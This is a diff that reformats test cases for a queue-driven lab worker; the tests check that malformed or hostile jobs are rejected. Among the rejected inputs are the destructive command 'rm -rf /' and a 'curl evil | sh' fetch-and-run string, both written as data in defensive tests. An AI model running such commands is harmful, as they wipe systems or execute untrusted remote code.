@@ -39,10 +39,26 @@ describe.skipIf(!haveRedis)('a lab worker and the jobs in its queue', () => {
         ['not-an-object', 'rm -rf /', /malformed job: the job: /],
         ['extra-key', { ...valid, command: 'curl evil | sh' }, /malformed job: .*command/],
         ['bad-format', { ...valid, format: 99 }, /malformed job: format/],
-        ['unknown-parameter', { ...valid, run: { ...valid.run, spec: { ...(run.spec as object), exec: 'x' } } }, /invalid run parameters: .*exec/],
-        ['bad-value', { ...valid, run: { ...valid.run, spec: { ...run.spec, training: { ...run.spec.training, steps: -1 } } } }, /invalid run parameters: field `training.steps`/],
-        ['wrong-hash', { ...valid, run: { ...valid.run, configHash: '0123456789abcdef' } }, /hash to [0-9a-f]{16}, not the job's config hash 0123456789abcdef/],
-        ['other-version', { ...valid, projectVersion: 'deadbeef' }, /version mismatch: the coordinator runs deadbeef, this worker .*--allow-version-mismatch/],
+        [
+          'unknown-parameter',
+          { ...valid, run: { ...valid.run, spec: { ...(run.spec as object), exec: 'x' } } },
+          /invalid run parameters: .*exec/,
+        ],
+        [
+          'bad-value',
+          { ...valid, run: { ...valid.run, spec: { ...run.spec, training: { ...run.spec.training, steps: -1 } } } },
+          /invalid run parameters: field `training.steps`/,
+        ],
+        [
+          'wrong-hash',
+          { ...valid, run: { ...valid.run, configHash: '0123456789abcdef' } },
+          /hash to [0-9a-f]{16}, not the job's config hash 0123456789abcdef/,
+        ],
+        [
+          'other-version',
+          { ...valid, projectVersion: 'deadbeef' },
+          /version mismatch: the coordinator runs deadbeef, this worker .*--allow-version-mismatch/,
+        ],
       ];
       for (const [name, data, reason] of cases) {
         const job = await queue.add('run', data, { jobId: `hostile__${name}` });
@@ -53,7 +69,11 @@ describe.skipIf(!haveRedis)('a lab worker and the jobs in its queue', () => {
       expect(worker.stderr()).not.toMatch(/ training /);
 
       // The coordinator may accept other code explicitly.
-      const allowed = await queue.add('run', { ...valid, projectVersion: 'deadbeef', allowVersionMismatch: true }, { jobId: jobIdOf('guarded', run.configHash) });
+      const allowed = await queue.add(
+        'run',
+        { ...valid, projectVersion: 'deadbeef', allowVersionMismatch: true },
+        { jobId: jobIdOf('guarded', run.configHash) },
+      );
       expect((await finished(queue, allowed)).state).toBe('completed');
       expect(worker.stderr()).toMatch(/ training guarded /);
     } finally {
